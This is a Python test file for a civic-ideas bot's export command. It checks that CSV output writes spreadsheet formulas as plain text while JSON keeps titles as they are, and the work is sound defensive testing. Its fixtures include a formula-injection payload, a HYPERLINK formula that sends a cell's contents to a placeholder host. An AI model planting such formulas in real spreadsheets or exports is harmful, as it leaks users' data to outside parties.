"""Open data as CSV: a cell a spreadsheet would run as a formula is written as plain text (a
leading apostrophe), in `mitreden export` as in every other CSV; JSON keeps the text as is."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest

from storage.database import create_engine, session_factory
from storage.ideas import create_idea
from storage.identities import resolve_citizen
from tests.bot.cli.support import Mitreden
from tests.storage.postgres_cluster import blocking

NOW = datetime(2026, 5, 4, 10, 0, tzinfo=UTC)
TITLES = [
    '=HYPERLINK("https://example.invalid/?d="&A1,"Details")',
    "+49 30 1234",
    "-2+3",
    "@SUM(1,2)",
    "\tTab",
    "\rZeile",
    "Sitzbänke am Teich",
]


async def publish_ideas(database_url: str) -> None:
    engine = create_engine(database_url)
    try:
        async with session_factory(engine)() as session, session.begin():
            author, _ = await resolve_citizen(session, "test", "a", "chat-a", "de", NOW)
            for title in TITLES:
                await create_idea(
                    session,
                    citizen_id=author,
                    title=title,
                    description="=1+1",
                    topic_id=None,
                    place="@Rathaus",
                    language="de",
                    now=NOW,
                    moderation="published",
                )
    finally:
        await engine.dispose()


def test_the_export_command_writes_formulas_as_plain_text(
    db_url: str,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    blocking(lambda: publish_ideas(db_url))
    mitreden = Mitreden(
        monkeypatch, capsys, tmp_path, MITREDEN_DATABASE_URL=db_url, MITREDEN_DEMO_DATA="false"
    )
    exported = mitreden("export", "ideas", "--format", "csv")
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(io.StringIO(exported.stdout, newline="")))
    assert [row["title"] for row in rows] == [
        "'" + title if title[0] in "=+-@\t\r" else title for title in TITLES
    ]
    assert {(row["description"], row["place"]) for row in rows} == {("'=1+1", "'@Rathaus")}
    assert {row["support_count"] for row in rows} == {"0"}

    raw = mitreden("export", "ideas", "--format", "json")
    assert [idea["title"] for idea in json.loads(raw.stdout)] == TITLES
